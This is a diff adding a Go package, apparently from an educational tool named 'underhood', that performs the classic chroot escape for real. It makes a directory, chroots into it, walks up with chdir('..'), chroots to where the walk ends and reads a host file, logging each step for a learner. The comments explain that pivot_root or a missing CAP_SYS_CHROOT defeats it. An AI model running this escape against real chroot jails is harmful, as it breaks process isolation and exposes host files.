@@ -1,0 +1,87 @@
+// Package escape is the classic way out of a chroot, run for real: a
+// process that may still call chroot(2) makes a directory, chroots into
+// it (so that its working directory is now outside its root), walks up
+// with chdir("..") past where its root used to be, and chroots to where it
+// ends up: the real root of its mount namespace. Under chroot that is the
+// host's root; after pivot_root it is the container's own, and without
+// CAP_SYS_CHROOT the first chroot is refused.
+package escape
+
+import (
+	"bufio"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+
+	"golang.org/x/sys/unix"
+)
+
+// Outcome is how an attempt went.
+type Outcome int
+
+const (
+	Escaped Outcome = iota // the target was read: the root was left
+	Held                   // the walk ended in the container's own root
+	Refused                // chroot(2) itself was refused (EPERM)
+)
+
+// ExitCode is what 'underhood escape' exits with for an outcome.
+func (o Outcome) ExitCode() int { return [...]int{0, 1, 3}[o] }
+
+// Result says what happened, step by step, for the learner.
+type Result struct {
+	Outcome Outcome
+	Steps   []string // what was done, as shell-like lines
+	Found   string   // the target's first line, when Escaped
+	Err     error    // why it was held or refused
+}
+
+// Try attempts the escape and then reads target, an absolute path as the
+// host sees it. It changes this process's root for good: run it in a
+// process of its own.
+func Try(target string) Result {
+	var r Result
+	say := func(f string, a ...any) { r.Steps = append(r.Steps, fmt.Sprintf(f, a...)) }
+	dir, err := os.MkdirTemp("/", ".escape-")
+	if err != nil {
+		dir = "/tmp/.escape"
+		if err = os.Mkdir(dir, 0o700); err != nil && !errors.Is(err, os.ErrExist) {
+			return Result{Outcome: Held, Steps: r.Steps, Err: fmt.Errorf("mkdir %s: %w", dir, err)}
+		}
+	}
+	say("mkdir %s", dir)
+	// Once chrooted into it, the directory has no path any more: remove it
+	// through the old root, held open.
+	if top, err := unix.Open(filepath.Dir(dir), unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0); err == nil {
+		defer unix.Close(top)
+		defer unix.Unlinkat(top, filepath.Base(dir), unix.AT_REMOVEDIR)
+	}
+	err = unix.Chroot(dir)
+	if err != nil {
+		say("chroot %s  → %v", dir, err)
+		return Result{Outcome: Refused, Steps: r.Steps, Err: fmt.Errorf("chroot %s: %w", dir, err)}
+	}
+	say("chroot %s   (the working directory is now outside the root)", dir)
+	for range 64 {
+		if err := unix.Chdir(".."); err != nil {
+			break
+		}
+	}
+	say("cd ..  ×64   (past where the root was: nothing stops a cwd outside it)")
+	if err := unix.Chroot("."); err != nil {
+		say("chroot .  → %v", err)
+		return Result{Outcome: Refused, Steps: r.Steps, Err: fmt.Errorf("chroot .: %w", err)}
+	}
+	say("chroot .     (the root is now wherever the walk ended)")
+	f, err := os.Open(target)
+	if err != nil {
+		say("cat %s  → %v", target, err)
+		return Result{Outcome: Held, Steps: r.Steps, Err: err}
+	}
+	defer f.Close()
+	sc := bufio.NewScanner(f)
+	sc.Scan()
+	say("cat %s", target)
+	return Result{Outcome: Escaped, Steps: r.Steps, Found: sc.Text()}
+}
